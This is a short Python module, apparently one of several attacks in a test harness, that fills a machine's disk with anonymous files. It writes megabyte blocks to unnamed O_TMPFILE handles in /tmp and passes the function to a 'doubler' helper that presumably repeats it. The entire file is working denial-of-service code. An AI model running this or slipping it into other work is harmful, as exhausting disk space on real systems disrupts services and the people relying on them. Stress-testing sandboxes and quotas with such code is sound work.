"""Fills the disk with files that have no name."""

import os

from lib.attack import doubler


def attack():
    descriptor = os.open("/tmp", os.O_TMPFILE | os.O_RDWR)
    return os.write(descriptor, bytes(2**20))


Doubler = doubler(attack)
